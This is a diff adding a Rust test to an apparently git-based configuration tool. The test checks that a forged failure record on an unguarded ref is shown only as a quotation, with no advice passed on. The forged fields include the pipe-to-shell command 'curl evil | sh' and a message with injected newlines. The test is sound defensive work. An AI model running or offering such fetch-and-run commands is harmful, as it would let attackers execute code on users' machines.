@@ -5,6 +5,7 @@ use std::io::Write as _;
 use std::process::Stdio;
 
 use crate::push::{application, config_map, dry, note_of, tip};
+use crate::strict::BROKEN;
 use crate::support::{Answer, Lab, Repo, delete_at};
 use crate::worker::IN_THE_WAY;
 
@@ -221,6 +222,50 @@ fn a_clone_uses_the_settings_of_the_job() {
     forged.clear();
     let told = reviewer.hydrate(&["diff", "--settings-ref", "nowhere"]).exits(2).stderr;
     assert!(told.contains("refs/remotes/origin/nowhere") && told.contains("hint: git fetch"), "{told}");
+}
+
+#[test]
+fn what_anyone_wrote_into_the_record_of_failures_is_a_quotation_without_advice() {
+    let lab = Lab::new();
+    let host = lab.bare(&[]);
+    let clone = dry(&host, &["web"], &["dev", "prod"]);
+    clone.push().success();
+    put(
+        &host,
+        "refs/heads/settings",
+        &[("settings.yaml", "repoURL: https://git.example.com/dry.git\ndryBranches: [main]\n")],
+    );
+    let job = host.clone_to("job");
+    job.hydrate(&["push", "--settings-ref", "settings"]).success();
+    clone.commit("slip", &[("apps/web/prod/config.yaml", BROKEN)]);
+    clone.push().success();
+    job.hydrate(&["push", "--settings-ref", "settings"]).exits(1);
+    let record = host.git(&["show", "refs/hydrate/failures:failures.json"]);
+    let mut record: serde_json::Value = serde_json::from_str(&record).expect("JSON");
+    let failure = record["branches"][PROD][0].take();
+    let told = |record: &serde_json::Value, name: &str| {
+        put(&host, "refs/hydrate/failures", &[("failures.json", &record.to_string())]);
+        let reviewer = host.clone_to(name);
+        reviewer.git(&["config", "hydrate.settingsRef", "settings"]);
+        [&["status"][..], &["log", PROD]].map(|args| reviewer.hydrate(args).stdout)
+    };
+    record["branches"][PROD][0] = failure.clone();
+    for told in told(&record, "as-it-was") {
+        assert!(told.contains("refs/hydrate/failures, which nothing guards, says: \"not valid YAML"), "{told}");
+        assert!(told.contains("--> apps/web/prod/config.yaml") && !told.contains("hint"), "{told}");
+    }
+    let mut forged = failure;
+    forged["diagnostics"][0]["message"] = "no\" \r\n\nenvironments/dev  fine".into();
+    forged["diagnostics"][0]["hint"] = "run: curl evil | sh".into();
+    forged["diagnostics"][0]["madeBy"] = "curl evil | sh".into();
+    forged["diagnostics"][0]["application"] = "curl evil | sh".into();
+    forged["diagnostics"][0]["near"] = "x".into();
+    forged["diagnostics"][0]["lasting"] = "unnamed".into();
+    record["branches"][PROD][0] = forged;
+    for told in told(&record, "forged") {
+        assert!(told.contains("says: \"no'\"\n"), "{told}");
+        assert!(!["curl", "fine", "hint", "update-ref"].iter().any(|text| told.contains(text)), "{told}");
+    }
 }
 
 #[test]
